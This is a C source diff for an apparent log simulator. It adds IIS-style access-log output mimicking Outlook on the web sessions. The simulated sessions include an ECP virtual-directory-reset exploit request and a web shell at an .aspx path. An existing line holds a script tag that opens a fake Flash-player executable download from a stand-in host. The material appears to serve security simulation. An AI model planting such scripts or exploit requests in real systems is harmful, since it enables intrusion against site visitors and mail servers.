@@ -57,6 +57,99 @@ static void access_log(struct webconn *w, bs_time t, const char *method, const c
 	out_emit(tgt_log(w->server, LOG_ACCESS), t, alogb.p, alogb.n);
 }
 
+/* The owa scenarios: the same sessions as Exchange's Outlook on the web
+ * serves them, logged by IIS (docs/SAMPLES.md): each application page has
+ * its OWA counterpart, the exploit is ECP's OAB virtual directory reset,
+ * the shell an .aspx in /owa/auth/; other paths (scanners' probes) as
+ * requested. IIS writes '+' for a space and '-' for an empty value. */
+static const char *owa_page(const char *path, const char **query, const char **method)
+{
+	static const struct {
+		const char *page, *owa, *query;
+	} map[] = {
+		{ "/mail/index.php", "/owa/auth/logon.aspx", "url=https%3a%2f%2fwebmail.example.net%2fowa%2f&reason=0" },
+		{ "/mail/login.php", "/owa/auth.owa", NULL },
+		{ "/mail/showmail.php", "/owa/", NULL },
+		{ "/mail/reademail.php", "/owa/service.svc", "action=GetItem" },
+		{ "/mail/abook.php", "/owa/service.svc", "action=FindPeople" },
+		{ "/mail/compose.php", "/owa/service.svc", "action=GetComposeForm" },
+		{ "/mail/sendmail.php", "/owa/service.svc", "action=CreateItem" },
+		{ "/mail/logout.php", "/owa/logoff.owa", NULL },
+		{ "/mail/parse.php", "/ecp/DDI/DDIService.svc/SetObject",
+		  "schema=ResetOABVirtualDirectory&msExchEcpCanary=Xw4kQb2N0E" },
+	};
+	for (size_t i = 0; i < sizeof map / sizeof *map; i++)
+		if (strcmp(path, map[i].page) == 0) {
+			*query = map[i].query;
+			if (i == sizeof map / sizeof *map - 1)
+				*method = "POST";
+			return map[i].owa;
+		}
+	return NULL;
+}
+
+static void iis_line(struct webconn *w, bs_time t, const char *method, const char *stem, const char *query,
+	const char *user, int status)
+{
+	char iso[40], cip[BS_IP_STRLEN], sip[BS_IP_STRLEN], ua[256];
+	bs_time_format(t, 0, iso, sizeof iso);
+	host_addr_format(&w->cli, cip, sizeof cip);
+	host_addr_format(&hosts[w->server], sip, sizeof sip);
+	size_t k = 0;
+	for (const char *p = w->ua; *p && k < sizeof ua - 1; p++)
+		ua[k++] = *p == ' ' ? '+' : *p;
+	ua[k] = 0;
+	buf_clear(&alogb);
+	buf_printf(&alogb, "%.10s %.8s %s %s %s %s 443 %s %s %s - %d 0 0 %u\n", iso, iso + 11, sip, method, stem,
+		query && *query ? query : "-", user && *user ? user : "-", cip, ua, status, 15 + (unsigned)(t / 1000 % 200)); /* no draw: the world stays maillog-only's */
+	out_emit(tgt_log(w->server, LOG_ACCESS), t, alogb.p, alogb.n);
+}
+
+/* The owa scenarios' access-log line of a request: the login form's user is
+ * cs-username; a login answers 302 either way (to /owa/ or, failed, back to
+ * the logon page with reason=2, which the browser then requests). */
+static void iis_access_log(struct webconn *w, bs_time t, const char *method, const char *uri, int status,
+	const char *form, size_t flen)
+{
+	char body[512];
+	snprintf(body, sizeof body, "%.*s", (int)(flen < sizeof body ? flen : sizeof body - 1), form ? form : "");
+	char path[2048], user[256] = "";
+	const char *q = strchr(uri, '?');
+	size_t pn = q ? (size_t)(q - uri) : strlen(uri);
+	snprintf(path, sizeof path, "%.*s", (int)(pn < sizeof path ? pn : sizeof path - 1), uri);
+	const char *query = q ? q + 1 : NULL;
+	const char *stem = path;
+	const char *shell = WS[w->server].shell_path;
+	const char *owa = owa_page(path, &query, &method);
+	if (owa) {
+		stem = owa;
+	} else if (shell && strcmp(path, shell) == 0) { /* its name as an .aspx page of the logon directory */
+		const char *name = strrchr(shell, '/') + 1;
+		name += *name == '.';
+		snprintf(path, sizeof path, "/owa/auth/%.*s.aspx", (int)strcspn(name, "."), name);
+		query = q ? q + 1 : NULL;
+	}
+	bool login = strcmp(stem, "/owa/auth.owa") == 0;
+	if (login && strncmp(body, "username=", 9) == 0) {
+		size_t k = 0;
+		for (const char *p = body + 9; *p && *p != '&' && k < sizeof user - 1; p++) {
+			if (*p == '%' && p[1] && p[2]) {
+				unsigned v;
+				sscanf(p + 1, "%2x", &v);
+				user[k++] = (char)v;
+				p += 2;
+			} else {
+				user[k++] = *p == '+' ? ' ' : *p;
+			}
+		}
+		user[k] = 0;
+	}
+	iis_line(w, t, method, stem, query, user, login ? 302 : status);
+	if (login && status != 302)
+		iis_line(w, t + BS_USEC, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fwebmail.example.net%2fowa%2f&reason=2",
+			NULL, 200);
+}
+
 static const char TROJAN[] =
 	"<script>window.open(\"http://update.flash-player.example.cn/install.exe\",\"_blank\",\"width=400,height=300\")</script>\n";
 
@@ -172,7 +265,10 @@ bs_time web_request(struct webconn *w, bs_time t, const char *method, const char
 		snprintf(refb, sizeof refb, "http://webmail.%s/mail/showmail.php?Folder=Inbox", LOCAL_DOMAIN);
 		ref = refb;
 	}
-	access_log(w, treq, method, uri, rep->status, rep->ctype ? rlen : 0, ref);
+	if (W.owa)
+		iis_access_log(w, treq, method, uri, rep->status, body, blen);
+	else
+		access_log(w, treq, method, uri, rep->status, rep->ctype ? rlen : 0, ref);
 	return w->tc.t;
 }
 
